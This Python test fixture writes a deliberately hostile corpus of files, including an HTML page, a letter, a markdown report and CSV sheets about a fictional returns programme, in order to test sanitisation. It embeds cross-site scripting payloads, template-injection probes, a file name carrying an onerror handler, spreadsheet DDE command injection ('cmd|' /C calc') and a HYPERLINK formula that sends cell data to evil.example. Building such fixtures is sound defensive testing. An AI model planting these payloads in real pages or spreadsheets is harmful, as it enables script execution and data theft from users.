"""A corpus whose every file and cell tries something: scripts, handlers, addresses that run, formulas of spreadsheets.

All of it sets `window.hacked`, opens a dialog or asks evil.example for something, so that a browser would tell.
"""

import csv
from pathlib import Path

SCRIPT = "<script>window.hacked=1;alert(1)</script>"
HANDLER = '"><img src=x onerror="window.hacked=2;alert(2)">'
SVG = "<svg/onload=window.hacked=3>"
ADDRESS = "javascript:window.hacked=4"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
ESCAPES = "]]><!-- {{7*7}} {% raw %} ${7*7} \\u003cscript\\u003e --></title></textarea></style>"
FORMULAS = (FORMULA, "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3")

PAGE = f"""<!DOCTYPE html><html><head><title>{{title}}</title><meta name="author" content='{HANDLER}'>
<script>window.hacked=5</script></head><body><article><h1>Story &lt;script&gt;window.hacked=6&lt;/script&gt;</h1>
<p onclick="window.hacked=7">The Return Office says that every return is voluntary
&lt;img src=x onerror=window.hacked=8&gt;
and safe. <a href="{ADDRESS}">Read the report</a> or <a href="data:text/html,{SCRIPT}">this one</a>.
<a href="vbscript:msgbox(1)">Another</a> and <a href=" java&#10;script:window.hacked=9">one more</a>.</p>
<p>Lawyers observed that nobody was offered a lawyer. &lt;svg/onload=window.hacked=10&gt; {{{{7*7}}}}
<iframe src="https://evil.example/frame"></iframe><img src="https://evil.example/pixel.gif"></p>
<p>The Office should publish its agreements immediately "&gt;&lt;script&gt;window.hacked=11&lt;/script&gt;.</p>
</article></body></html>"""
LETTER = f"""Lake Group {SVG}
4 May 2021

Dear Director {HANDLER},

The Return Office says that every return is voluntary and safe {SCRIPT}.[1]
{FORMULA} is what our visitors found: people were not offered a lawyer.[2] It is unclear whether children were heard.

The Office should immediately halt returns {HANDLER}. If the programme continues, {SVG} it should guarantee a lawyer.

{ESCAPES}

Yours sincerely,
Cy {HANDLER} Oduya

[1] Ruiz {SCRIPT}, Tickets Home (2020), {ADDRESS} and https://example.org/a?"onmouseover="window.hacked=12.
[2] {FORMULA}
"""
MARKDOWN = f"""# A report {SCRIPT}

The Return Office [says]({ADDRESS}) that counselling is offered {HANDLER}.

| Year | People |
| --- | --- |
| {FORMULA} | @SUM(1+1) |

<script>window.hacked=13</script>

Observers saw that no lawyer was present.[^1]

[^1]: See [the ministry](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==), "Monitoring {SVG}" (2022).
"""


def write(folder: Path) -> Path:
    """Writes the corpus into `folder`."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "story.html").write_text(PAGE.format(title=SCRIPT))
    (folder / "letter.txt").write_text(LETTER)
    (folder / "report.md").write_text(MARKDOWN)
    (folder / "<img src=x onerror=alert(1)>.txt").write_text(LETTER.replace("2021", "2022"))
    _sheet(
        folder / "documents.csv",
        "id,file,url,archive_url,title,type,publisher,date,programme,licence,republish",
        [
            "story",
            "story.html",
            "https://example.org/story",
            "",
            SCRIPT,
            "news",
            HANDLER,
            "2021-06-01",
            "way",
            SVG,
            "1",
        ],
        ["letter", "letter.txt", "https://example.org/l", "", FORMULA, "letter", FORMULA, "2021-05-04", "way", "", "1"],
        ["report", "report.md", "", "", ESCAPES, "report", SVG, "2022", "way", FORMULA, "1"],
    )
    _sheet(
        folder / "actors.csv",
        "key,name,aliases,role",
        ["office", f"Return Office {HANDLER}", f"the Office;Return Office;{SCRIPT}", "implementer"],
        ["lake", f"Lake Group {SVG}", FORMULA, "civil_society"],
    )
    _sheet(
        folder / "programmes.csv",
        "id,name,aliases,host,implementer,from,to",
        ["way", f"Way Home {SCRIPT}", FORMULA, "", "office", "2018", ""],
    )
    return folder


def _sheet(path: Path, columns: str, *rows: list[str]) -> None:
    with path.open("w", newline="") as file:
        csv.writer(file).writerows([columns.split(","), *rows])
